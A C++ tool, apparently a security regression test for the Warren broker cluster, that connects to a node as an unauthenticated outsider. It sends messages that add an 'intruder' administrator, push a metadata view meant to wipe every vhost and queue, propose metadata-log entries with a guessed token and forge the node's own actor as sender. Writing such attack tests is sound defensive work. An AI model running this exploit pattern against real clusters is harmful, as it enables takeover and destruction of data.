// An outsider on the cluster port, as an attacker would write one: it links Warren's own
// libraries, sets the public app identifier and registers the message types, but holds neither
// the cluster secret nor (unless given one) a certificate the cluster's CA signed.
//
//   cluster_intruder HOST PORT [CERT KEY CA]
//
// It connects (over TLS with CERT/KEY/CA), then tries what took over a node before the link was
// authenticated: an access change adding an administrator, a metadata view with a huge version
// (taken, it would delete every vhost and queue), and named lookups of the node's other actors.
// Each step prints one line; the exit code is 0 whatever the node did.
#include "actors/common/cluster_protocol.hpp"
#include "actors/common/message_types.hpp"
#include "persistence/metadata_codec.hpp"
#include "persistence/metadata_log_codec.hpp"

#include <caf/actor_system.hpp>
#include <caf/actor_system_config.hpp>
#include <caf/io/middleman.hpp>
#include <caf/mailbox_element.hpp>
#include <caf/message_id.hpp>
#include <caf/openssl/manager.hpp>
#include <caf/openssl/remote_actor.hpp>
#include <caf/scoped_actor.hpp>
#include <caf/send.hpp>

#include <chrono>
#include <iostream>
#include <limits>
#include <string>
#include <thread>

namespace {

warren::access_change admin_for_intruder() {
  warren::access_change change;
  change.put.users.push_back({"intruder", "c2FsdHNhbHRzYWx0", {"administrator"}});
  change.put.permissions.push_back({"intruder", "/", ".*", ".*", ".*"});
  return change;
}

// The same administrator as a metadata log entry, for the cluster actor to commit.
std::string admin_entry_for_intruder() {
  using namespace warren::persistence;
  auto change = admin_for_intruder();
  const auto& u = change.put.users[0];
  const auto& p = change.put.permissions[0];
  return encode_metadata_entry(
      {{{meta_table::users, user_key(u.name), encode_user(u), false},
        {meta_table::permissions, permission_key(p.user, p.vhost), encode_permission(p), false}},
       {}});
}

warren::metadata_view empty_view_from_the_future() {
  warren::metadata_view view;
  view.from = "a";
  view.version = std::numeric_limits<uint64_t>::max() / 2;
  return view;
}

void attack(caf::actor_system& system, const caf::actor& cluster) {
  caf::scoped_actor self{system};
  // As a member would send them, and anonymously.
  self->send(cluster, warren::replicate_atom::value, std::string("a"), admin_for_intruder());
  caf::anon_send(cluster, warren::replicate_atom::value, std::string("a"), admin_for_intruder());
  self->send(cluster, warren::replicate_atom::value, empty_view_from_the_future());
  caf::anon_send(cluster, warren::replicate_atom::value, empty_view_from_the_future());
  // A change for the metadata log: as this node's own actors send it, and as a member forwards
  // it to the leader; each as itself and anonymously.
  auto entry = admin_entry_for_intruder();
  const uint64_t guessed_token = 0x5eed;
  self->send(cluster, warren::propose_atom::value, guessed_token, entry);
  caf::anon_send(cluster, warren::propose_atom::value, guessed_token, entry);
  self->send(cluster, warren::propose_atom::value, std::string("a"), entry);
  caf::anon_send(cluster, warren::propose_atom::value, std::string("a"), entry);
  // Naming the node's own cluster actor as the sender: CAF 0.17's BASP gives the message that
  // local sender on the node's side.
  auto forged = caf::actor_cast<caf::strong_actor_ptr>(cluster);
  caf::actor_cast<caf::abstract_actor*>(cluster)->enqueue(
      caf::make_mailbox_element(forged, caf::make_message_id(), {}, warren::propose_atom::value,
                                guessed_token, entry),
      nullptr);
  std::cout << "sent: replicate access change, metadata view, metadata log proposals" << std::endl;
  const std::pair<caf::atom_value, const char*> registered[] = {
      {caf::atom("ConfigServ"), "ConfigServ"}, {caf::atom("SpawnServ"), "SpawnServ"}};
  for (const auto& [atom, name] : registered) {
    auto found = system.middleman().remote_lookup(atom, cluster.node());
    std::cout << "lookup " << name << ": " << (found ? "reachable" : "not reachable") << std::endl;
  }
  // The messages travel before the connection closes.
  std::this_thread::sleep_for(std::chrono::seconds(1));
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3 && argc != 6) {
    std::cerr << "usage: cluster_intruder HOST PORT [CERT KEY CA]\n";
    return 2;
  }
  std::string host = argv[1];
  auto port = static_cast<uint16_t>(std::stoi(argv[2]));
  bool tls = argc == 6;
  caf::actor_system_config cfg;
  cfg.load<caf::io::middleman>();
  cfg.set("middleman.app-identifiers", std::vector<std::string>{"warren"});
  warren::register_message_types(cfg);
  if (tls) {
    cfg.load<caf::openssl::manager>();
    cfg.openssl_certificate = argv[3];
    cfg.openssl_key = argv[4];
    cfg.openssl_cafile = argv[5];
  }
  caf::actor_system system{cfg};
  auto cluster = tls ? caf::openssl::remote_actor(system, host, port)
                     : system.middleman().remote_actor(host, port);
  if (!cluster) {
    std::cout << "connect: refused (" << system.render(cluster.error()) << ")" << std::endl;
    return 0;
  }
  std::cout << "connect: ok" << std::endl;
  attack(system, *cluster);
  return 0;
}
